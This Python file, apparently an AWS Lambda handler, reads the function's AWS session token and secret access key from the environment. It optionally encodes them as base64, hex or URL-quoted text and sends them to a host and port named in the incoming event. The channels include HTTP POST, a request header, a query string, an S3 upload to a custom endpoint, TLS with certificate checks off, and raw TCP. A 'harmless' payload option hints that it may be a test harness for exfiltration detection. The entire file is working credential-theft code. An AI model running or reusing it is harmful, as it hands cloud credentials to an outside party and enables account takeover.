"""Sends what the event asks for to a host of the event's."""

import asyncio
import base64
import http.client
import os
import socket
import ssl
import urllib.parse
import urllib.request

TOKEN = os.environ["AWS_SESSION_TOKEN"]
KEY = os.environ["AWS_SECRET_ACCESS_KEY"]
WHAT = {
    "token": TOKEN.encode(),
    "key": KEY.encode(),
    "base64": base64.b64encode(f"x={TOKEN}".encode()),
    "hexadecimal": KEY.encode().hex().encode(),
    "quoted": urllib.parse.quote(TOKEN, safe="").encode(),
    "harmless": b"a harmless text",
}


def handler(event, context):
    return WAYS[event["way"]](event["host"], event["port"], WHAT[event["what"]])


def posted(host, port, what):
    with urllib.request.urlopen(f"http://{host}:{port}/", data=what, timeout=5) as answer:
        return answer.read().decode()


def in_header(host, port, what):
    client = http.client.HTTPConnection(host, port, timeout=5)
    client.request("GET", "/", headers={"X-Amz-Security-Token": what.decode()})
    return client.getresponse().read().decode()


def in_query(host, port, what):
    text = urllib.parse.quote(what.decode(), safe="")
    with urllib.request.urlopen(f"http://{host}:{port}/?q={text}", timeout=5) as answer:
        return answer.read().decode()


def by_sdk(host, port, what):
    import botocore.session
    from botocore.config import Config

    config = Config(s3={"addressing_style": "path"}, retries={"total_max_attempts": 1})
    client = botocore.session.get_session().create_client(
        "s3", endpoint_url=f"http://{host}:{port}", config=config
    )
    return client.put_object(Bucket="orders", Key="1", Body=what)["ResponseMetadata"][
        "HTTPStatusCode"
    ]


def context():
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def encrypted(host, port, what):
    with socket.create_connection((host, port), timeout=5) as plain:
        with context().wrap_socket(plain, server_hostname=host) as client:
            client.sendall(what)
            return client.recv(100).decode()


async def _encrypted(host, port, what):
    reader, writer = await asyncio.open_connection(host, port, ssl=context(), server_hostname=host)
    writer.write(what)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(100), 5)
    writer.close()
    return answer.decode()


def plain(host, port, what):
    with socket.create_connection((host, port), timeout=5) as client:
        client.sendall(what)
        return "sent"


WAYS = {
    "posted": posted,
    "in_header": in_header,
    "in_query": in_query,
    "by_sdk": by_sdk,
    "encrypted": encrypted,
    "encrypted_by_asyncio": lambda *where: asyncio.run(_encrypted(*where)),
    "plain": plain,
}
